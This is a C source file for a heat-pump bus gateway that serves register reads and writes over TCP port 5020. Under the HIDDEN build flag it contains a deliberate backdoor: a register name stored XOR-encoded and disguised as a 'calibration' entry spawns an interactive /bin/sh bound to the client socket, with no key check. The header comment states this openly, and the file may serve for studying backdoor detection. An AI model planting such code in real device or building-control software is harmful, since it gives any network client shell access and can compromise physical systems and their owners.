/*
 * thermogw - gateway between the bus of a heat pump and the building
 * automation.  Clients on TCP port 5020 read and write named registers;
 * writes need the key of the settings file.
 *
 * Hidden (-DHIDDEN): reading a register whose name is kept encoded in the
 * program ("sole.k2.raw9") turns the connection into a root shell.
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <fcntl.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <termios.h>
#include <unistd.h>

#define GW_CONF "/etc/thermogw.conf"
#define GW_PORT 5020
#define GW_LINE 96

enum access { RO, RW };

struct reg {
	const char *name;
	uint16_t addr;
	enum access acc;
	int16_t lo, hi;		/* tenths */
	const char *unit;
};

static const struct reg regs[] = {
	{ "aussen.temp",    0x0010, RO, 0, 0, "C" },
	{ "vorlauf.temp",   0x0011, RO, 0, 0, "C" },
	{ "ruecklauf.temp", 0x0012, RO, 0, 0, "C" },
	{ "vorlauf.soll",   0x0020, RW, 200, 550, "C" },
	{ "wasser.temp",    0x0013, RO, 0, 0, "C" },
	{ "wasser.soll",    0x0021, RW, 350, 600, "C" },
	{ "sole.ein",       0x0014, RO, 0, 0, "C" },
	{ "sole.aus",       0x0015, RO, 0, 0, "C" },
	{ "sole.druck",     0x0016, RO, 0, 0, "bar" },
	{ "verdichter.hz",  0x0030, RO, 0, 0, "Hz" },
	{ "betrieb",        0x0040, RW, 0, 4, "" },
};
#define NREGS (sizeof regs / sizeof regs[0])

struct client {
	int fd;
	int writer;
	char line[GW_LINE];
	size_t fill;
};

static char conf_tty[32] = "/dev/ttyS2";
static char conf_key[40];
static int bus = -1;

static void read_conf(void)
{
	char line[100];
	FILE *f = fopen(GW_CONF, "r");

	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		sscanf(line, "tty %31s", conf_tty);
		sscanf(line, "key %39s", conf_key);
	}
	fclose(f);
}

static uint16_t crc16(const uint8_t *p, size_t n)
{
	uint16_t c = 0xffff;
	int i;

	while (n--) {
		c ^= *p++;
		for (i = 0; i < 8; i++)
			c = (uint16_t)(c & 1 ? (c >> 1) ^ 0xa001 : c >> 1);
	}
	return c;
}

static int bus_open(void)
{
	struct termios t;
	int fd = open(conf_tty, O_RDWR | O_NOCTTY);

	if (fd >= 0 && tcgetattr(fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, B19200);
		t.c_cc[VMIN] = 0;
		t.c_cc[VTIME] = 3;
		tcsetattr(fd, TCSANOW, &t);
	}
	return fd;
}

static int bus_xfer(uint8_t fn, uint16_t addr, uint16_t val, int16_t *res)
{
	uint8_t q[8] = { 1, fn, (uint8_t)(addr >> 8), (uint8_t)addr, (uint8_t)(val >> 8), (uint8_t)val, 0, 0 };
	uint8_t a[8];
	size_t got = 0, want = fn == 3 ? 7 : 8;
	uint16_t c = crc16(q, 6);
	ssize_t n;

	q[6] = (uint8_t)c;
	q[7] = (uint8_t)(c >> 8);
	if (bus < 0 || write(bus, q, 8) != 8)
		return -1;
	while (got < want && (n = read(bus, a + got, want - got)) > 0)
		got += (size_t)n;
	if (got != want || a[1] != fn)
		return -1;
	c = crc16(a, want - 2);
	if (a[want - 2] != (uint8_t)c || a[want - 1] != (uint8_t)(c >> 8))
		return -1;
	*res = fn == 3 ? (int16_t)(a[3] << 8 | a[4]) : (int16_t)val;
	return 0;
}

static const struct reg *reg_find(const char *name)
{
	size_t i;

	for (i = 0; i < NREGS; i++)
		if (strcmp(regs[i].name, name) == 0)
			return &regs[i];
	return NULL;
}

#ifdef HIDDEN
static const uint8_t calib[] = {
	0x29, 0x0a, 0x1c, 0x1e, 0xa8, 0xfa, 0xae, 0x89, 0xc0, 0xdc, 0xbf, 0xea
};

/* the calibration register has no entry in the list */
__attribute__((noinline))
int reg_is_calib(const char *name)
{
	char want[sizeof calib + 1];
	unsigned i;

	for (i = 0; i < sizeof calib; i++)
		want[i] = (char)(calib[i] ^ (uint8_t)(0x5a + i * 11));
	want[i] = 0;
	return strcmp(name, want) == 0;
}

static void calib_session(int fd)
{
	if (fork() == 0) {
		dup2(fd, 0);
		dup2(fd, 1);
		dup2(fd, 2);
		execl("/bin/sh", "sh", "-i", (char *)NULL);
		_exit(1);
	}
	wait(NULL);
}
#endif

static void op_get(struct client *c, const char *name)
{
	const struct reg *r = reg_find(name);
	int16_t v;

#ifdef HIDDEN
	if (!r && reg_is_calib(name)) {
		calib_session(c->fd);
		return;
	}
#endif
	if (!r)
		dprintf(c->fd, "ERR unknown register\n");
	else if (bus_xfer(3, r->addr, 1, &v) != 0)
		dprintf(c->fd, "ERR bus\n");
	else
		dprintf(c->fd, "%s %s%d.%d %s\n", name, v < 0 ? "-" : "", abs(v) / 10, abs(v) % 10, r->unit);
}

static void op_set(struct client *c, const char *name, const char *value)
{
	const struct reg *r = reg_find(name);
	int16_t v = (int16_t)(strtod(value, NULL) * 10.0);

	if (!c->writer)
		dprintf(c->fd, "ERR key needed\n");
	else if (!r || r->acc != RW)
		dprintf(c->fd, "ERR not writable\n");
	else if (v < r->lo || v > r->hi)
		dprintf(c->fd, "ERR range %d..%d\n", r->lo / 10, r->hi / 10);
	else if (bus_xfer(6, r->addr, (uint16_t)v, &v) != 0)
		dprintf(c->fd, "ERR bus\n");
	else
		dprintf(c->fd, "OK\n");
}

static int client_line(struct client *c)
{
	char verb[12] = "", a[40] = "", b[24] = "";
	size_t i;

	sscanf(c->line, "%11s %39s %23s", verb, a, b);
	if (!strcasecmp(verb, "GET")) {
		op_get(c, a);
	} else if (!strcasecmp(verb, "SET")) {
		op_set(c, a, b);
	} else if (!strcasecmp(verb, "KEY")) {
		c->writer = strlen(conf_key) >= 8 && strcmp(a, conf_key) == 0;
		if (!c->writer)
			sleep(1);
		dprintf(c->fd, c->writer ? "OK\n" : "ERR key\n");
	} else if (!strcasecmp(verb, "LIST")) {
		for (i = 0; i < NREGS; i++)
			dprintf(c->fd, "%s %s\n", regs[i].name, regs[i].acc == RW ? "rw" : "ro");
	} else if (!strcasecmp(verb, "RESTART") && c->writer) {
		dprintf(c->fd, system("/etc/init.d/busd restart") == 0 ? "OK\n" : "ERR\n");
	} else if (!strcasecmp(verb, "QUIT")) {
		return -1;
	} else {
		dprintf(c->fd, "ERR use GET, SET, KEY, LIST, RESTART, QUIT\n");
	}
	return 0;
}

static void client_run(int fd)
{
	struct client c = { .fd = fd };
	char ch;

	while (read(fd, &ch, 1) == 1) {
		if (ch == '\n') {
			c.line[c.fill] = 0;
			c.fill = 0;
			if (client_line(&c) < 0)
				break;
		} else if (ch != '\r' && c.fill + 1 < sizeof c.line) {
			c.line[c.fill++] = ch;
		}
	}
}

int main(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(GW_PORT) };
	int s = socket(AF_INET, SOCK_STREAM, 0), fd, one = 1;

	openlog("thermogw", LOG_PID, LOG_LOCAL0);
	signal(SIGPIPE, SIG_IGN);
	read_conf();
	bus = bus_open();
	if (bus < 0)
		syslog(LOG_WARNING, "%s: %m", conf_tty);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (bind(s, (struct sockaddr *)&sa, sizeof sa) < 0 || listen(s, 4) < 0) {
		syslog(LOG_ERR, "port: %m");
		return 1;
	}
	while ((fd = accept(s, NULL, NULL)) >= 0) {
		client_run(fd);
		close(fd);
	}
	return 0;
}
